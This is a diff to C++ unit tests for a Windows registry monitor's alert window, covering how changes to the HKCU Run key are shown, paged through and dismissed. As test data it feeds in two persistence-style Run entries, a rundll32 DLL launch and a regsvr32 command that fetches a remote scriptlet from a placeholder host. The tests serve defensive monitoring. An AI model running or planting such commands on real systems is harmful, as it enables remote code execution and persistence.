@@ -22,15 +22,25 @@ class AlertTest : public ::testing::Test, protected TFakeServices {
     Form1 = nullptr;
     Form2 = nullptr;
   }
-  TChangeData Notice(std::vector<std::string> lines, std::string title = "",
-                     std::string valueName = "") {
-    TChangeData data;
-    data.Key = "\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";
-    data.RootKey = kHkeyCurrentUser;
-    data.Changes = std::move(lines);
-    data.Title = std::move(title);
-    data.ValueName = std::move(valueName);
-    return data;
+  // A record as a monitor of HKCU's Run key makes it.
+  static TChangeRecord Record(TChangeKind kind, std::string name, std::string line,
+                              std::string data = "") {
+    TChangeRecord r;
+    r.Kind = kind;
+    r.RootKey = kHkeyCurrentUser;
+    r.Location = "\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";
+    r.ValueName = name;
+    r.Identity = std::u16string(name.begin(), name.end());
+    r.Line = std::move(line);
+    (kind == TChangeKind::Deleted ? r.OldData : r.NewData) = data.empty() ? r.Line : data;
+    if (kind == TChangeKind::Added) r.Title = texts::kTitleAdded;
+    if (kind == TChangeKind::Deleted) r.Title = texts::kTitleDeleted;
+    return r;
+  }
+  // Queues the records and wakes the main window as a monitor does.
+  void Notify(std::vector<TChangeRecord> records) {
+    Main.Queue().Append(records);
+    Main.HandleMessage(WM_REGCHANGE, 0, 0);
   }
   std::string Icon() const {
     auto* picture = static_cast<const fake::FakePicture*>(Alert.Image1->Picture());
@@ -41,92 +51,121 @@ class AlertTest : public ::testing::Test, protected TFakeServices {
   TForm2 Alert{&Main, Services};
 };
 
-TEST_F(AlertTest, ShowsTheLastNewLineAndThePassAsAWhole) {
+TEST_F(AlertTest, ShowsTheNewestChangeWholeAndKeepsEveryOtherReachable) {
   EXPECT_EQ(Alert.Text(), texts::kAlertCaption);
-  TChangeData data = Notice({"C:\\a.exe", "C:\\b.exe"}, texts::kTitleAdded, "B");
-  Main.WMRegChange(data);
+  Notify({Record(TChangeKind::Added, "A", "C:\\a.exe"), Record(TChangeKind::Added, "B", "C:\\b.exe")});
   EXPECT_TRUE(Alert.Visible());
-  EXPECT_EQ(data.Shown, 2);
-  // The first line would be replaced before anyone could see it: no window work for it.
+  // The first would be replaced before anyone could see it: no window work for it.
   EXPECT_EQ(Shell.IconRequests, (std::vector<std::string>{"C:\\b.exe"}));
   EXPECT_EQ(Alert.Edit3->Text(), "C:\\b.exe");
   EXPECT_EQ(Icon(), "C:\\b.exe");
   EXPECT_EQ(Alert.Edit4->Text(), "HKEY_CURRENT_USER");
-  EXPECT_EQ(Alert.Edit2->Text(), data.Key);
+  EXPECT_EQ(Alert.Edit2->Text(), "\\Software\\Microsoft\\Windows\\CurrentVersion\\Run");
   EXPECT_EQ(Alert.Edit1->Text(), std::string(texts::kRegistryChange) + "2026/12/9 13:05:09");
   EXPECT_EQ(Alert.Text(), texts::kTitleAdded);
   EXPECT_EQ(Alert.sLabelFX1->Text(), "B");
+  EXPECT_EQ(Alert.TabSheet1->Text(), std::string(texts::kAlertPage) + " 2/2");
+  EXPECT_TRUE(Alert.Button4->Visible());
+  EXPECT_FALSE(Alert.Edit5->Visible());  // the data is the path: nothing more to show
 
-  // Only the lines since the last handling are shown; an empty title or
-  // name leaves caption and label as they were.
-  data.Changes.push_back(ChangedLine("B", "C:\\b.exe", "C:\\c.exe"));
-  data.Title.clear();
-  data.ValueName = "B";
-  Main.WMRegChange(data);
-  EXPECT_EQ(Shell.IconRequests.size(), 2u);
-  EXPECT_EQ(Icon(), "");  // a change line names no file: the question mark shows
-  EXPECT_EQ(Alert.Text(), texts::kTitleAdded);
+  // "<": the older change, every field from it.
+  Alert.Button4->Click();
+  EXPECT_EQ(Alert.Edit3->Text(), "C:\\a.exe");
+  EXPECT_EQ(Alert.sLabelFX1->Text(), "A");
+  EXPECT_EQ(Alert.TabSheet1->Text(), std::string(texts::kAlertPage) + " 1/2");
 
-  // A flood: the end state of showing every line in turn, for one icon lookup.
-  for (int i = 0; i < 5000; ++i) data.Changes.push_back("C:\\flood\\" + std::to_string(i) + ".exe");
-  data.Title = texts::kTitleDeleted;
-  data.ValueName = "Flood4999";
-  Main.WMRegChange(data);
-  EXPECT_EQ(data.Shown, 5003);
-  EXPECT_EQ(Shell.IconRequests.size(), 3u);
-  EXPECT_EQ(Alert.Edit3->Text(), "C:\\flood\\4999.exe");
-  EXPECT_EQ(Icon(), "C:\\flood\\4999.exe");
-  EXPECT_EQ(Alert.Edit4->Text(), "HKEY_CURRENT_USER");
+  // A change names its program in its line; a command line shows whole in Edit5.
+  Clock.Time.Second = 10;
+  Notify({Record(TChangeKind::Changed, "B", ChangedLine("B", "C:\\b.exe", "C:\\c.exe")),
+          Record(TChangeKind::Deleted, "R", "rundll32.exe C:\\Users\\Public\\x.dll,Start",
+                 "rundll32.exe C:\\Users\\Public\\x.dll,Start")});
   EXPECT_EQ(Alert.Text(), texts::kTitleDeleted);
-  EXPECT_EQ(Alert.sLabelFX1->Text(), "Flood4999");
+  EXPECT_EQ(Alert.TabSheet1->Text(), std::string(texts::kAlertPage) + " 4/4");
+  Notify({Record(TChangeKind::Added, "S", "regsvr32 ", "regsvr32 /s /i:http://host/x.sct scrobj.dll")});
+  EXPECT_TRUE(Alert.Edit5->Visible());
+  EXPECT_EQ(Alert.Edit5->Text(), "regsvr32 /s /i:http://host/x.sct scrobj.dll");
+  Alert.Button4->Click();
+  Alert.Button4->Click();
+  EXPECT_EQ(Alert.Edit3->Text(), ChangedLine("B", "C:\\b.exe", "C:\\c.exe"));
+  EXPECT_EQ(Icon(), "");  // a change line names no file: the question mark shows
+  EXPECT_FALSE(Alert.Edit5->Visible());
+  EXPECT_EQ(Alert.Edit1->Text(), std::string(texts::kRegistryChange) + "2026/12/9 13:05:10");
+
+  // A flood: the newest shown, every one counted, one icon lookup.
+  const std::size_t lookups = Shell.IconRequests.size();
+  std::vector<TChangeRecord> flood;
+  for (int i = 0; i < 5000; ++i) {
+    flood.push_back(Record(TChangeKind::Added, "F" + std::to_string(i),
+                           "C:\\flood\\" + std::to_string(i) + ".exe"));
+  }
+  Notify(std::move(flood));
+  EXPECT_EQ(Shell.IconRequests.size(), lookups + 1);
+  EXPECT_EQ(Alert.Edit3->Text(), "C:\\flood\\4999.exe");
+  EXPECT_EQ(Alert.sLabelFX1->Text(), "F4999");
+  EXPECT_EQ(Alert.TabSheet1->Text(), std::string(texts::kAlertPage) + " 5005/5005");
+
+  // "确定" dismisses them all: the next change is alone again.
+  Alert.Button2->Click();
+  Notify({Record(TChangeKind::Added, "N", "C:\\n.exe")});
+  EXPECT_EQ(Alert.TabSheet1->Text(), texts::kAlertPage);
+  EXPECT_FALSE(Alert.Button4->Visible());
 }
 
-TEST_F(AlertTest, AWakeWithoutADifferenceRefreshesOnlyTheTimeAndTheKey) {
-  TChangeData first = Notice({"C:\\a.exe"}, texts::kTitleDeleted, "A");
-  Main.WMRegChange(first);
-  TChangeData other = Notice({});
-  other.Key = "\\Control Panel\\Desktop";
-  other.RootKey = kHkeyLocalMachine;
+// A wake-up that brings nothing new, or one forged by another program, changes
+// no field and neither raises nor sounds the alert.
+TEST_F(AlertTest, AWakeUpWithNothingNewChangesNothing) {
+  Notify({Record(TChangeKind::Added, "A", "C:\\a.exe")});
+  Alert.Close();
+  Sound.Calls.clear();
   Clock.Time.Second = 10;
-  Main.WMRegChange(other);
-  EXPECT_EQ(Alert.Edit2->Text(), "\\Control Panel\\Desktop");
-  EXPECT_EQ(Alert.Edit1->Text(), std::string(texts::kRegistryChange) + "2026/12/9 13:05:10");
+  Main.HandleMessage(WM_REGCHANGE, 0x41414141, 0x41414141);
+  Notify({});
+  EXPECT_FALSE(Alert.Visible());
+  EXPECT_EQ(Alert.Edit1->Text(), std::string(texts::kRegistryChange) + "2026/12/9 13:05:09");
   EXPECT_EQ(Alert.Edit3->Text(), "C:\\a.exe");
-  EXPECT_EQ(Alert.Edit4->Text(), "HKEY_CURRENT_USER");
-  EXPECT_EQ(Alert.sLabelFX1->Text(), "A");
-  EXPECT_EQ(Alert.Text(), texts::kTitleDeleted);
+  EXPECT_TRUE(Sound.Calls.empty());
 }
 
 TEST_F(AlertTest, AtMidnightTheTimeLineHoldsTheDateAlone) {
   Clock.Time = {2026, 1, 2, 0, 0, 0, 731};
-  TChangeData data = Notice({});
-  Main.WMRegChange(data);
+  Notify({Record(TChangeKind::Added, "A", "C:\\a.exe")});
   EXPECT_EQ(Alert.Edit1->Text(), std::string(texts::kRegistryChange) + "2026/1/2");
 }
 
-TEST_F(AlertTest, TheStopNoticeAndAnUnknownHive) {
-  TChangeData data = Notice({texts::kMonitoringStopped});
-  data.RootKey = 0x12345678;
-  Main.WMRegChange(data);
+// A notice names no value: the label is emptied so that "删除" cannot delete
+// a value of another change under the notice's key.
+TEST_F(AlertTest, NoticesAndAnUnknownHive) {
+  Notify({Record(TChangeKind::Added, "Wallpaper", "C:\\w.exe")});
+  TChangeRecord stop = Record(TChangeKind::Stopped, "", texts::kMonitoringStopped);
+  stop.RootKey = 0x12345678;
+  stop.Location = "\\Control Panel\\Desktop";
+  Notify({stop});
   EXPECT_EQ(Alert.Edit3->Text(), texts::kMonitoringStopped);
   EXPECT_EQ(Alert.Edit4->Text(), "");
+  EXPECT_EQ(Alert.sLabelFX1->Text(), "");
   EXPECT_EQ(Icon(), "");
+
+  TChangeRecord notWatched = Record(TChangeKind::NotWatched, "", texts::kNotWatched);
+  Notify({notWatched});
+  EXPECT_EQ(Tray.Tip(), std::string(kTrayHint) + " - 1" + texts::kLocationsNotWatched);
+  EXPECT_EQ(Tray.Icon(), Tray.WarningIcon());
+  notWatched.Kind = TChangeKind::WatchedAgain;
+  Notify({notWatched});
+  EXPECT_EQ(Tray.Tip(), kTrayHint);
+  EXPECT_EQ(Tray.Icon(), Tray.ProgramIcon());
 }
 
-TEST_F(AlertTest, ANoticeBeforeTheAlertExistsOrAfterItIsGoneIsKeptForTheNext) {
+TEST_F(AlertTest, RecordsBeforeTheAlertExistsAreKeptForTheNextWakeUp) {
   Form2 = nullptr;
-  TChangeData data = Notice({"C:\\a.exe"}, texts::kTitleAdded, "A");
-  Main.WMRegChange(data);
-  EXPECT_EQ(data.Shown, 0);
+  Notify({Record(TChangeKind::Added, "A", "C:\\a.exe")});
   Form2 = &Alert;
-  Main.WMRegChange(data);
-  EXPECT_EQ(data.Shown, 1);
+  EXPECT_FALSE(Alert.Visible());
+  Notify({});
   EXPECT_EQ(Alert.Edit3->Text(), "C:\\a.exe");
 }
 
 TEST_F(AlertTest, ClosingStopsTheSoundAndHides) {
-  TChangeData data = Notice({});
-  Main.WMRegChange(data);
+  Notify({Record(TChangeKind::Added, "A", "C:\\a.exe")});
   Alert.Close();
   EXPECT_FALSE(Alert.Visible());
   EXPECT_EQ(Sound.Calls, std::vector<std::string>{"stop"});
@@ -149,7 +188,8 @@ TEST(Toolkit, OwnsComponentsInCreationOrderAndKnowsTheirClasses) {
   for (vcl::TComponent* c : form.Components()) names.push_back(c->Name());
   EXPECT_EQ(names, (std::vector<std::string>{"PageControl1", "TabSheet1", "sLabelFX1", "Image5",
                                              "Image1", "Edit4", "Edit1", "Edit2", "Image3", "Edit3",
-                                             "Image2", "Image4", "Button2", "Button1", "Button3"}));
+                                             "Image2", "Image4", "Button2", "Button1", "Button3",
+                                             "Edit5", "Button4", "Button5"}));
   EXPECT_TRUE(form.Edit1->InheritsFrom("TEdit"));
   EXPECT_TRUE(form.Edit1->InheritsFrom("TWinControl"));
   EXPECT_FALSE(form.Edit1->InheritsFrom("TCheckBox"));
